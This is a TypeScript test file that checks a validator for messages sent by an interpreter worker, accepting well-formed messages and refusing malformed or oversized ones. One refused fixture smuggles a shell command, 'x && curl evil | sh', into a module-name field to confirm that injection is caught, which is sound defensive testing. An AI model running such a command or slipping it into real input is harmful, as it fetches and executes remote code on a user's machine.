import assert from "node:assert/strict";
import { test } from "node:test";
import { validateMessage } from "../src/interpreter/validate_message.ts";

const finished = { kind: "finished", exit: 1, frames: [{ file: "a.py", line: 1 }], missing: null };

const output = (...pieces: unknown[]) => ({ kind: "output", pieces });

for (const message of [
  { kind: "progress", phase: "load", loaded: 0, total: 1 },
  { kind: "ready", startedFrom: "kept image" },
  { kind: "output", pieces: [{ stream: "stderr", text: "text" }] },
  { kind: "capped", limit: 100_000 },
  finished,
  { kind: "broken", cause: "nested too deep" },
  { kind: "unavailable", problem: "cut off", file: "rest.zip" },
  { kind: "unavailable", problem: "other", file: null, reason: "Error: it did not start" },
  { kind: "image kept" },
]) {
  test(`a message of our worker is valid: ${message.kind}`, () => {
    assert.deepEqual(validateMessage(message), message);
  });
}

for (const [what, message] of Object.entries({
  nothing: null,
  "no kind": {},
  "a kind of the prototype's": { kind: "constructor" },
  "output that is no list": { kind: "output", pieces: { length: 0 } },
  "output that is no text": output({ stream: "stdout", text: { length: 1 } }),
  "output that is nothing": output(null),
  "an unknown stream": output({ stream: "class", text: "x" }),
  "an unknown start": { kind: "ready", startedFrom: "elsewhere" },
  "an exit code that is no number": { ...finished, exit: "0" },
  "an exit code above 255": { ...finished, exit: 256 },
  "a limit that is no number": { kind: "capped", limit: "<b>" },
  "frames that are no list": { ...finished, frames: 7 },
  "a line before the first": { ...finished, frames: [{ file: "a.py", line: -1 }] },
  "very many frames": { ...finished, frames: Array(10_000).fill(finished.frames[0]) },
  "a list that reads like a kind": { ...finished, kind: ["finished"] },
  "a total of zero": { kind: "progress", phase: "start", loaded: 0, total: 0 },
  "more output than the limit": output(
    ...Array<unknown>(3).fill({ stream: "stdout", text: "x".repeat(1_000_000) }),
  ),
  "a module name with other text": { ...finished, missing: "x && curl evil | sh" },
  "a limit that is not ours": { kind: "capped", limit: 5_550_100 },
  "a cause in its own words": { kind: "broken", cause: "Call 555-0100" },
  "a cause of the prototype's": { kind: "broken", cause: "constructor" },
  "a cause that reads like one": { kind: "broken", cause: ["other"] },
  "a file that is none of ours": { kind: "unavailable", problem: "damaged", file: "your-edits.py" },
  "a reason too long to read": {
    kind: "unavailable",
    problem: "other",
    file: null,
    reason: "x".repeat(9_000),
  },
  "a name too long to read": { ...finished, missing: "x".repeat(10_000) },
})) {
  test(`a message that our worker never sends is refused: ${what}`, () => {
    assert.equal(validateMessage(message).kind, "broken");
  });
}
